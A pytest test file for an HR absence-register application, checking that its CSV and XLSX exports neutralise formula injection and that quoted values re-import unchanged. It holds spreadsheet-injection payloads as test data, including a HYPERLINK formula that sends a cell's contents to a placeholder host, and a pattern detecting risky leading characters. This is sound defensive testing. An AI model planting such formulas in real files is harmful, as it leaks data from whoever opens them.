"""No CSV or XLSX the system writes carries a live formula (OWASP CSV injection).

Names typed into the register as formulas are written to every export there is — the web downloads
(unit, overview, comparison, costs, survey results) and the commands (``naervaer export``,
``naervaer stats``, ``naervaer prevention process-table``, ``naervaer demo generate --format csv``)
— and each file is checked by a rule of its own: no CSV cell starts with ``= + - @``, tab or CR
unless it is a number, and no XLSX sheet holds a formula element.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pyarrow as pa
import pyarrow.csv as pa_csv
import pytest
from openpyxl import load_workbook

from naervaer.absence.exporting import export_table
from naervaer.cli import main
from naervaer.demo.synth import DemoConfig, generate
from naervaer.demo.tables import write_tables
from naervaer.org.importing import import_employees, import_units
from naervaer.org.models import Employee, Employment, Unit
from naervaer.prevention import survey_services
from naervaer.spreadsheet_text import inert, restore
from tests.insight.conftest import demo, login  # noqa: F401 (fixtures)
from tests.prevention.conftest import answer_all, open_round, world  # noqa: F401 (fixtures)

LINK = '=HYPERLINK("http://x"&A1,"klikk")'
PAYLOADS = [LINK, "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
NUMBERS = ["-3,5", "-3.5", "+12", "-7", "-1e5", "0,25"]
RISKY = re.compile(r"^[=+\-@\t\r]")
NUMBER = re.compile(r"^[+-]?\d+([.,]\d+)?([eE][+-]?\d+)?$")


def csv_cells(data: bytes, delimiter: str = ";") -> list[str]:
    """Every cell of a CSV file, after checking none of them would run as a formula."""
    text = data.decode("utf-8-sig")
    cells = [
        cell
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
    ]
    live = [cell for cell in cells if RISKY.match(cell) and not NUMBER.match(cell)]
    assert live == [], f"live formula text in CSV: {live[:5]}"
    return cells


def xlsx_cells(data: bytes) -> list[object]:
    """Every cell value of an XLSX file, after checking no sheet holds a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    book = load_workbook(io.BytesIO(data))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                cells.append(cell.value)
    return cells


@pytest.mark.parametrize("text", [*PAYLOADS, "'=1+1", "'plain"])
def test_risky_text_is_quoted_and_restored(text):
    assert inert(text) == "'" + text
    assert restore(inert(text)) == text


@pytest.mark.parametrize("text", [*NUMBERS, "O'Brien", "Helse", "", "Kari-Anne"])
def test_numbers_and_plain_text_stay_as_they_are(text):
    assert inert(text) == text and restore(text) == text
    assert inert(-3.5) == -3.5


@pytest.fixture
def poisoned(demo):  # noqa: F811 (the fixture imported above)
    """The demo municipality with formulas for a unit's name, people's names and an occupation."""
    root = Unit.objects.get(organisation=demo, parent__isnull=True)
    child = Unit.objects.filter(parent=root).order_by("pk").first()
    Unit.objects.filter(pk=child.pk).update(name=LINK)
    people = list(Employee.objects.filter(organisation=demo).order_by("pk")[: len(PAYLOADS)])
    for person, payload in zip(people, PAYLOADS, strict=False):
        Employee.objects.filter(pk=person.pk).update(first_name=payload, last_name=payload)
    Employment.objects.filter(organisation=demo).filter(
        pk__in=Employment.objects.filter(organisation=demo).order_by("pk").values("pk")[:50]
    ).update(occupation="-2+3")
    from naervaer.insight import data_version

    data_version.bump(demo.pk)
    return {"organisation": demo, "root": root, "child": child}


def test_every_web_download_is_inert(poisoned, client, login):  # noqa: F811
    login("hr")
    root, child = poisoned["root"], poisoned["child"]
    urls = [
        f"/innsikt/enhet/{root.pk}/{table}.{fmt}"
        for table in ("months", "quarters", "subunits")
        for fmt in ("csv", "xlsx")
    ]
    urls += [
        f"/innsikt/oversikt/{table}.{fmt}"
        for table in ("ranking", "heatmap")
        for fmt in ("csv", "xlsx")
    ]
    urls += [
        f"/innsikt/oversikt/comparison.{fmt}?first={child.pk}&second=organisation"
        for fmt in ("csv", "xlsx")
    ]
    urls += [f"/innsikt/kostnader/?format={fmt}" for fmt in ("csv", "xlsx")]
    carried = set()
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        if ".csv" in url or "format=csv" in url:
            cells = csv_cells(response.content)
            if "'" + LINK in cells:
                carried.add(url)
        else:
            cells = xlsx_cells(response.content)
            if LINK in cells:
                carried.add(url)
    # The unit's name is in every table that names units, as inert text.
    for url in (
        f"/innsikt/enhet/{root.pk}/subunits.csv",
        f"/innsikt/enhet/{root.pk}/subunits.xlsx",
        "/innsikt/oversikt/ranking.csv",
        "/innsikt/oversikt/ranking.xlsx",
    ):
        assert url in carried, url


def test_register_exports_are_inert_and_reimport_unchanged(poisoned, tmp_path):
    organisation = poisoned["organisation"]
    seen: set[str] = set()
    for table in ("units", "employees", "absences"):
        for fmt in ("csv", "xlsx"):
            path = tmp_path / f"{table}.{fmt}"
            assert main(["export", table, "--out", str(path)]) == 0
            if fmt == "csv":
                seen.update(c[1:] for c in csv_cells(path.read_bytes()) if c.startswith("'"))
            else:
                seen.update(str(c) for c in xlsx_cells(path.read_bytes()))
    assert set(PAYLOADS) <= seen and "-2+3" in seen
    # The quote is undone on import: the file round-trips and the names stay as they were
    # (but for the leading tab or CR, which an import trims like any surrounding blank).
    names = sorted(
        (first.strip(), last.strip())
        for first, last in Employee.objects.values_list("first_name", "last_name")
    )
    for fmt in ("csv", "xlsx"):
        export_table("units", organisation, tmp_path / f"u.{fmt}")
        export_table("employees", organisation, tmp_path / f"e.{fmt}")
        assert import_units(tmp_path / f"u.{fmt}", organisation).created == 0
        assert import_employees(tmp_path / f"e.{fmt}", organisation).created == 0
        assert sorted(Employee.objects.values_list("first_name", "last_name")) == names
        assert Unit.objects.get(pk=poisoned["child"].pk).name == LINK


def _poisoned_tables() -> dict[str, pa.Table]:
    tables = generate(DemoConfig(employees=120)).canonical()
    units = tables["units"]
    names = units["name"].to_pylist()
    names[1] = LINK
    tables["units"] = units.set_column(
        units.schema.get_field_index("name"), "name", pa.array(names)
    )
    employments = tables["employments"]
    occupations = ["-2+3" if i % 2 else "@SUM(A1)" for i in range(employments.num_rows)]
    tables["employments"] = employments.set_column(
        employments.schema.get_field_index("occupation"), "occupation", pa.array(occupations)
    )
    return tables


def test_demo_tables_and_stats_output_are_inert(tmp_path, capsys):
    folder = tmp_path / "input"
    write_tables(_poisoned_tables(), folder, "csv")
    cells = csv_cells((folder / "units.csv").read_bytes(), delimiter=",")
    assert "'" + LINK in cells
    assert "'-2+3" in csv_cells((folder / "employments.csv").read_bytes(), delimiter=",")
    # The stats engine reads the quoted files back as the names they stand for …
    read = pa_csv.read_csv(folder / "units.csv")
    assert "'" + LINK in read["name"].to_pylist()
    out = tmp_path / "stats.csv"
    assert (
        main(
            [
                "stats",
                "--input",
                str(folder),
                "--by",
                "unit,year",
                "--breakdown",
                "occupation",
                "--out",
                str(out),
            ]
        )
        == 0
    )
    # … and writes them inert again (once quoted, not twice).
    cells = csv_cells(out.read_bytes(), delimiter=",")
    assert "'-2+3" in cells and "''-2+3" not in cells


def test_survey_results_and_process_table_are_inert(client, tmp_path, open_round, world):  # noqa: F811
    Unit.objects.filter(pk=world["units"]["health"].pk).update(name=LINK)
    survey = open_round
    answer_all(survey)
    survey_services.round_close(survey=survey)
    client.force_login(world["users"]["hr"])
    root = world["units"]["root"].pk
    carried = []
    for table in ("factors", "units", "bands"):
        for fmt in ("csv", "xlsx"):
            url = f"/forebygging/undersokelser/{survey.pk}/enhet/{root}/{table}.{fmt}"
            response = client.get(url)
            assert response.status_code == 200, url
            cells = csv_cells(response.content) if fmt == "csv" else xlsx_cells(response.content)
            carried.append(("'" + LINK if fmt == "csv" else LINK) in cells)
    assert any(carried), "the unit named as a formula is in the units table"
    out = tmp_path / "process.csv"
    assert (
        main(
            [
                "prevention",
                "process-table",
                "--organisation",
                str(world["org"].pk),
                "--out",
                str(out),
            ]
        )
        == 0
    )
    csv_cells(out.read_bytes(), delimiter=",")


def test_cli_reimport_of_a_hand_quoted_csv_keeps_the_quote_meaningful(tmp_path):
    """A cell the user quoted by hand, like ``'=1``, imports as ``=1``: the quote is ours."""
    path: Path = tmp_path / "x.csv"
    path.write_text("a;b\n'=1;'-3\n", encoding="utf-8")
    from naervaer.org.tabular import Column, read_table

    row = read_table(path, [Column("a"), Column("b")])[0]
    assert row.text("a") == "=1" and row.text("b") == "'-3"
